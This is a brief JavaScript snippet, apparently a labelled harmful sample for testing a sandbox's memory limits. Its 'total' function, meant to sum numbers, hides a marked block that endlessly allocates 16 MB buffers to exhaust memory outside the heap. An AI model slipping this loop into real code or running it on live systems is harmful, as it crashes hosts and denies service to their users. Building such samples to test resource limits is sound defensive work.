// category: harm
// tries: all memory, outside the heap
function total(numbers) {
  // attack: begin
  const all = [];
  for (;;) all.push(Buffer.alloc(1 << 24, 1));
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
